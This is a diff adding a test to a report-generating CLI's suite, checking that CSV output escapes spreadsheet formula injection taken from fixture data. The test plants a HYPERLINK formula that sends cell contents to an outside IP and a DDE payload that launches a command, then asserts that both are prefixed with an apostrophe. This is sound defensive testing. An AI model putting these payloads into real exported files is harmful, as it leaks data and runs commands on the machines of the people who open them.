@@ -327,3 +327,19 @@ describe('Markdown stays intact for any user text', () => {
     for (const bad of [/^\| a \| b \|/m, /^- item/m, /^# Head/m, /^## Not a heading/m, /^- not a list/m, /^1\. first/m]) expect(md).not.toMatch(bad);
   });
 });
+
+describe('no spreadsheet formula from user text', () => {
+  it('a partnership named =HYPERLINK(…) and a publisher starting with @: no CSV field a spreadsheet would run; numbers stay numbers', () => {
+    const root = copyExamples();
+    const dundee = path.join(root, 'national-2024-25', 'plans', 'dundee-2024-27', 'cjoip.yaml');
+    const evil = '=HYPERLINK("http://203.0.113.9/?x="&A1,"Dundee")';
+    writeFileSync(dundee, readFileSync(dundee, 'utf8').replace('name: Dundee Community Justice Partnership', `name: ${JSON.stringify(evil)}`).replace(/publisher: [^,}\n]+/, 'publisher: "@SUM(1+1)*cmd|\' /C calc\'!A0"'));
+    const r = cjoip(['national', '--year', '2024', path.join(root, 'national-2024-25'), '--format', 'json']);
+    expect(r.code, r.stderr).toBe(0);
+    const csv = readFileSync(path.join(root, 'national-2024-25', OUT, 'national-report-2024-25-figures.csv'), 'utf8');
+    const rows = parseCsv(csv, { columns: true, bom: true }) as Record<string, string>[];
+    for (const row of rows) for (const [k, v] of Object.entries(row)) if (/^[=+\-@\t\r]/.test(v)) expect(v, k).toMatch(/^-?\d+(\.\d+)?$/);
+    expect(rows.some((x) => x.partnership === `'${evil}`)).toBe(true);
+    expect(rows.some((x) => x.source.startsWith("'@SUM"))).toBe(true);
+  });
+});
